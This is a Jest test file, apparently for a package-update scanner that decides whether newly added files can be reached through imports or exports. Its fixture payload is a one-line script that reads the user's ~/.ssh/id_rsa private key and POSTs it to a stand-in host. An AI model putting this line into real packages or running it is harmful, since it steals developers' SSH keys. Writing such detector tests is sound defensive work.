import { describe, expect, it } from '@jest/globals';
import { gradesOf } from '../helpers/an-update.ts';

const before = {
  'index.js': "exports.chunk = require('./fp/chunk')",
  'fp/chunk.js': 'module.exports = (a) => [a]',
  'fp/memo.js': 'module.exports = (f) => f',
};
const payload = `const fs = require('fs'); fetch('https://in.invalid', { method: 'POST', body: fs.readFileSync(process.env.HOME + '/.ssh/id_rsa') });\n`;
const gradeOf = async (path: string, manifest: Readonly<Record<string, unknown>> = {}) =>
  (await gradesOf(before, { ...before, [path]: payload }, manifest)).import.grade;

describe('files nothing of the package leads to', () => {
  it('beside files an import leads to are imported by their paths', async () => {
    expect(await gradeOf('fp/memo.js')).toBe('convicts');
    expect(await gradeOf('more.js')).toBe('convicts');
  });

  it('are news once more when something leads to them', async () => {
    const there = { ...before, 'fp/memo.js': payload };
    const now = { ...there, 'index.js': `require('./fp/memo'); ${before['index.js']}` };
    expect((await gradesOf(there, there)).import.grade).toBe('none');
    expect((await gradesOf(there, now)).import.grade).toBe('convicts');
  });

  it.each([
    ['a map of exports closes them', 'fp/memo.js', { exports: './index.js' }],
    ['nothing of their folder is imported', 'task/memo.js', {}],
    ['they are the developers', 'fp/memo.test.js', {}],
  ])('are shipped only where %s', async (_, path, manifest) => {
    expect(await gradeOf(path, manifest)).toBe('none');
  });
});
